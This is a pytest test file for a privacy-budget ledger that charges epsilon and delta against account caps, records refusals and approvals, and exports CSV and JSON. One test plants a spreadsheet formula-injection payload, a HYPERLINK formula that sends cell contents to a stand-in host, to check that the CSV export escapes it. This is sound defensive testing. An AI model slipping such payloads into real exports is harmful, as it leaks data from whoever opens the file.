"""What is charged, paid, agreed to and exported; and what a price may not be."""

import csv
import io
import json
import math
import pickle

import pytest

from confrere.errors import (
    BudgetExceeded,
    CompositionError,
    ConfrereError,
    InvalidParameter,
    LedgerError,
    StudyRefused,
)
from confrere.kernel.guarantee import RELATIONS, Guarantee, Promised, Unit
from confrere.kernel.release import paying
from confrere.ledger import ChargeApproval, Ledger, Limit, Receipt
from confrere.ledger.witness import store_at
from tests.world import each


def test_delta_has_its_own_cap_which_is_nothing_unless_given(ledger):
    ledger.open_account("other", epsilon=1.0, delta=1e-6)
    ledger.charge("other", Guarantee(0.1, 7e-7), purpose="model")
    assert ledger.affords("other", Guarantee(0.1, 3e-7))
    assert not ledger.affords("other", Guarantee(0.1, 4e-7))
    with pytest.raises(BudgetExceeded, match="delta 4e-07, 3e-07 left") as refusal:
        ledger.charge("other", Guarantee(0.1, 4e-7), purpose="model")
    assert pickle.loads(pickle.dumps(refusal.value)).currency == "delta"
    with pytest.raises(BudgetExceeded, match="delta"):
        ledger.charge("study", Guarantee(0.1, 1e-9), purpose="model")
    assert (ledger.spent("study"), ledger.spent("other")) == (0.0, 0.1)


@pytest.mark.parametrize("unit", list(Unit))
@pytest.mark.parametrize("relation", RELATIONS)
@pytest.mark.parametrize("other_unit", list(Unit))
@pytest.mark.parametrize("other_relation", RELATIONS)
def test_only_what_is_counted_can_be_charged(path, unit, relation, other_unit, other_relation):
    ledger = Ledger(path)
    ledger.open_account("study", epsilon=1, unit=str(unit), neighbours=str(relation))
    guarantee = Guarantee(0.1, unit=other_unit, neighbours=other_relation)
    if (unit, relation) == (other_unit, other_relation):
        assert ledger.affords("study", guarantee)
        ledger.charge("study", guarantee, purpose="model")
        return
    for ask in (
        lambda: ledger.affords("study", guarantee),
        lambda: ledger.account_for("study", guarantee),
        lambda: ledger.charge("study", guarantee, purpose="model"),
    ):
        with pytest.raises(CompositionError, match="the two do not add up"):
            ask()
    assert ledger.spent("study") == 0.0


@pytest.mark.parametrize(
    "facts",
    [
        *each(
            name=("", "a\nb", "x" * 201, "\ud800", 7), epsilon=(0, -1.0, math.inf, math.nan, "1")
        ),
        *each(delta=(1.0, math.nan, "0"), unit=("household", None), neighbours=("far", None)),
        *each(reason=("",), period=("month", "", 1)),
        {"epsilon": None, "delta": 0.1},
        {"epsilon": None, "period": "year"},
    ],
    ids=ascii,
)
def test_impossible_accounts_are_refused(path, facts):
    ledger = Ledger(path)
    with pytest.raises(InvalidParameter, match=next(iter(facts))):
        ledger.open_account(**{"name": "a", "epsilon": 1.0} | facts)
    assert ledger.accounts() == []


SAID = ChargeApproval(
    name="A. Reuter",
    reason="board of 12 May",
    time="2026-05-12T09:00:00+00:00",
    justification="one in a hundred false alarms finds 2.7 of a hundred",
)
STUDY = ("diabetes", "ab" * 32)


def test_who_approves_again_in_other_words_does_not_pay_again(ledger, tenth):
    first = ledger.charge("study", tenth, purpose="fit", key="k", approval=SAID)
    again = ChargeApproval("B. Kim", "again", "2026-06-01T00:00:00Z")
    assert ledger.charge("study", tenth, purpose="fit", key="k", approval=again) == first
    assert ledger.charge("study", tenth, purpose="fit", key="k") == first
    with pytest.raises(LedgerError, match="another charge"):
        ledger.charge("study", tenth, purpose="other", key="k", approval=SAID)


def test_a_refusal_is_in_the_chain_and_spends_nothing(ledger, path):
    ledger.refuse(STUDY, name="A. Reuter", reason="no purpose of ours")
    (told,) = Ledger(path).decisions()
    assert (told.said, told.study, told.study_sha256) == ("refused", "diabetes", "ab" * 32)
    assert (told.name, told.reason, told.row) == ("A. Reuter", "no purpose of ours", 3)
    assert ledger.spent("study") == 0.0
    assert ledger.verify() == 3


def test_a_no_holds_whoever_charges(ledger, path, tenth):
    """Attack: a store that nobody had told to look for a no charged all the same."""
    ledger.refuse(STUDY, name="A. Reuter", reason="no purpose of ours")
    with pytest.raises(StudyRefused):
        store_at(path).charge("study", tenth, purpose="fit", study=STUDY)


class TestEnds:
    def test_a_foreign_or_altered_receipt_is_refused(self, ledger, tmp_path, tenth):
        mine = ledger.charge("study", tenth, purpose="fit")
        elsewhere = Ledger(tmp_path / "elsewhere.ledger")
        elsewhere.open_account("study", epsilon=1.0)
        foreign = elsewhere.charge("study", tenth, purpose="fit")
        changes = each(row=(1, 2, 99), hash=(foreign.hash,), ledger_id=(foreign.ledger_id,))
        changes.append({"simulated": True})
        altered = [Receipt.from_dict(mine.to_dict() | change) for change in changes]
        for receipt in (foreign, *altered):
            with pytest.raises(LedgerError, match="not of this ledger"):
                ledger.mark_released(receipt)
            with pytest.raises(LedgerError, match="not of this ledger"):
                ledger.entry(receipt)
        assert ledger.entries()[0].state == "open"

    @pytest.mark.parametrize("code", ["", "two words", "row 7 has x=3.2", "a" * 65, "é", 5])
    def test_a_code_cannot_quote_data_and_a_digest_is_a_text(self, ledger, tenth, code):
        receipt = ledger.charge("study", tenth, purpose="fit")
        with pytest.raises(InvalidParameter, match="code must be"):
            ledger._store.mark(receipt, code=code)
        with pytest.raises(InvalidParameter, match="digest must be a str"):
            ledger.mark_released(receipt, digest=b"00")
        assert ledger.entries()[0].state == "open"


@pytest.mark.parametrize(
    "wrong",
    [
        *each(purpose=("", "two\nlines", None), key=("", 3), simulated=(None,)),
        *each(
            guarantee=(0.1,), event=(Guarantee(0.1), {"event": "Drawn"}), origin=([1, 2], {3: "a"})
        ),
    ],
)
def test_wrong_arguments_are_refused_before_anything_is_spent(ledger, wrong):
    charge = {"account": "study", "guarantee": Guarantee(0.1), "purpose": "fit"} | wrong
    with pytest.raises(InvalidParameter, match=next(iter(wrong))):
        ledger.charge(**charge)
    assert ledger.spent("study") == 0.0


@pytest.mark.parametrize("forged", [{"epsilon": -5.0}, {"delta": -0.1}, {"epsilon": math.nan}])
def test_a_forged_price_gives_no_budget_back(ledger, forged):
    price = Guarantee(0.1)
    vars(price).update(forged)
    with pytest.raises(InvalidParameter):
        ledger.charge("study", price, purpose="fit")
    assert ledger.spent("study") == 0.0


def test_a_limit_beside_the_cap_is_looked_at_with_the_charge(ledger):
    ledger.open_account("wide", epsilon=10.0)
    half, limited = Guarantee(0.5), {"purpose": "fit", "limit": Limit(1.5, "study")}
    first, *_ = (ledger.charge("wide", half, key=key, **limited) for key in ("k", None, None))
    with pytest.raises(BudgetExceeded) as refused:
        ledger.charge("wide", half, **limited)
    assert (refused.value.asked, refused.value.left) == (0.5, 0.0)
    assert ledger.charge("wide", half, key="k", **limited) == first  # it was paid
    assert ledger.spent("wide") == 1.5
    # Without one, or with another, the account's own cap decides.
    ledger.charge("wide", half, purpose="fit", limit=Limit(2.0, "study"))
    ledger.charge("wide", half, purpose="fit")
    with pytest.raises(InvalidParameter):
        ledger.charge("wide", half, purpose="fit", limit=Limit(math.nan, "study"))


def _stop(words, first):
    first()
    raise ValueError(words)


class _Odd(Exception):
    pass


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (ValueError, "ValueError"),
        (KeyboardInterrupt, "KeyboardInterrupt"),
        (SystemExit, "SystemExit"),
        (_Odd, "Error"),
    ],
)
def test_what_raised_failed_and_stays_charged(ledger, tenth, error, code):
    with pytest.raises(error), paying(ledger, "study", tenth, purpose="fit"):
        raise error
    (entry,) = ledger.entries()
    assert (entry.state, entry.code, ledger.spent()) == ("failed", code, 0.1)


def test_what_resumes_stays_open_when_interrupted(ledger, tenth):
    facts = {"purpose": "fit", "key": "k", "resumes": True}
    with pytest.raises(KeyboardInterrupt), paying(ledger, None, tenth, **facts) as first:
        raise KeyboardInterrupt
    assert ledger.entry(first.receipt).state == "open"
    with paying(ledger, None, tenth, **facts) as again:
        pass
    assert again.receipt == first.receipt
    assert (ledger.entry(first.receipt).state, ledger.spent()) == ("released", 0.1)
    with pytest.raises(ConfrereError), paying(ledger, None, tenth, purpose="y", resumes=True) as e:
        raise ConfrereError
    assert ledger.entry(e.receipt).state == "failed"


def test_the_error_is_heard_even_if_the_ledger_is_gone(ledger, tenth, path):
    with (
        pytest.raises(ValueError, match="what went wrong") as caught,
        paying(ledger, "study", tenth, purpose="fit"),
    ):
        _stop("what went wrong", path.unlink)
    assert "could not be told" in caught.value.__notes__[0]


def test_no_cell_of_the_csv_is_a_formula(ledger, tenth):
    """Attack: a study whose name a spreadsheet computes when the officer opens the export."""
    name = '=HYPERLINK("http://x/"&A1)'
    ledger.charge("study", tenth, purpose="+1", key="@x", study=(name, "0" * 64))
    ledger.refuse((name, "0" * 64), name="dpo", reason="-2")
    for line in csv.reader(io.StringIO(ledger.to_csv())):
        assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@")]
        assert "'" + name in line or line[0] == "row"


@pytest.fixture
def busy(ledger, tenth):
    receipt = ledger.charge("study", tenth, purpose='fit, "quoted"', event=Promised(0.1))
    ledger.mark_released(receipt, digest="00ff")
    ledger.open_account("open")
    ledger.charge("open", Guarantee(2.0, 1e-6), purpose="vote", key="k", simulated=True)
    return ledger


def test_json_is_whole_and_of_one_moment(busy):
    document = json.loads(busy.to_json())
    assert document["head"] == busy.head()
    assert document["ledger_id"] == busy.charge("study", Guarantee(0.1), purpose="x").ledger_id
    study, unbounded = document["accounts"]
    assert (study["epsilon"], study["spent"], study["left"]) == (1.0, 0.1, 0.9)
    assert (unbounded["epsilon"], unbounded["left"], unbounded["unit"]) == (None, None, "record")
    assert [entry["guarantee"]["epsilon"] for entry in document["entries"]] == [0.1, 2.0]
    assert document["entries"][0]["state"] == "released"
